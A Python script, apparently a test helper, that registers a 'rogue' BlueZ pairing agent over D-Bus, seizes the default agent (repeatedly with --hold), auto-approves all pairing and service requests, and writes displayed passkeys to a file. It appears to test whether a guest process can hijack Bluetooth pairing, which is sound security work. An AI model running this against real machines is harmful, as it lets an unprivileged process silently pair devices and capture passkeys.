#!/usr/bin/python3
"""A local process that takes BlueZ's default agent (guest only).

It does what an interactive bluetoothctl does when it starts: registers an
agent (KeyboardDisplay) and calls RequestDefaultAgent. It accepts every
request, and writes every passkey it is shown to PIN_FILE as
"PIN 123456", so a test phone can type it. With --hold it asks for the
default again every 0.2 s, so it is the default whenever a pairing starts.

Usage: rb-rogue-agent.py PIN_FILE [--hold]
"""

import sys

try:
    import dbus
    import dbus.service
    from dbus.mainloop.glib import DBusGMainLoop
    from gi.repository import GLib
except ImportError as e:
    raise SystemExit(f"FAIL: {e}: install python3-dbus and python3-gi")

AGENT = "org.bluez.Agent1"
PATH = "/rogue/agent"


def log(msg):
    print(f"rogue agent: {msg}", flush=True)


class Agent(dbus.service.Object):
    def __init__(self, conn, pin_file):
        super().__init__(conn, PATH)
        self.pin_file = pin_file

    @dbus.service.method(AGENT, in_signature="ouq", out_signature="")
    def DisplayPasskey(self, device, passkey, entered):
        log(f"DisplayPasskey {device} {passkey:06d} entered={entered}")
        with open(self.pin_file, "w") as f:
            f.write(f"PIN {passkey:06d}\n")

    @dbus.service.method(AGENT, in_signature="ou", out_signature="")
    def RequestConfirmation(self, device, passkey):
        log(f"RequestConfirmation {device} {passkey:06d}: yes")

    @dbus.service.method(AGENT, in_signature="o", out_signature="")
    def RequestAuthorization(self, device):
        log(f"RequestAuthorization {device}: yes")

    @dbus.service.method(AGENT, in_signature="o", out_signature="u")
    def RequestPasskey(self, device):
        log(f"RequestPasskey {device}: 0")
        return dbus.UInt32(0)

    @dbus.service.method(AGENT, in_signature="os", out_signature="")
    def AuthorizeService(self, device, uuid):
        log(f"AuthorizeService {device} {uuid}: yes")

    @dbus.service.method(AGENT, in_signature="", out_signature="")
    def Release(self):
        log("Release")

    @dbus.service.method(AGENT, in_signature="", out_signature="")
    def Cancel(self):
        log("Cancel")


def main():
    if len(sys.argv) < 2:
        raise SystemExit(__doc__)
    hold = "--hold" in sys.argv[2:]
    DBusGMainLoop(set_as_default=True)
    bus = dbus.SystemBus()
    Agent(bus, sys.argv[1])
    mgr = dbus.Interface(bus.get_object("org.bluez", "/org/bluez"),
                         "org.bluez.AgentManager1")
    mgr.RegisterAgent(PATH, "KeyboardDisplay")
    mgr.RequestDefaultAgent(PATH)
    log(f"registered {PATH} as the default agent ({bus.get_unique_name()})")

    def again():
        try:
            mgr.RequestDefaultAgent(PATH)
        except dbus.DBusException as e:
            log(f"RequestDefaultAgent: {e}")
        return True

    if hold:
        GLib.timeout_add(200, again)
    GLib.MainLoop().run()


if __name__ == "__main__":
    main()
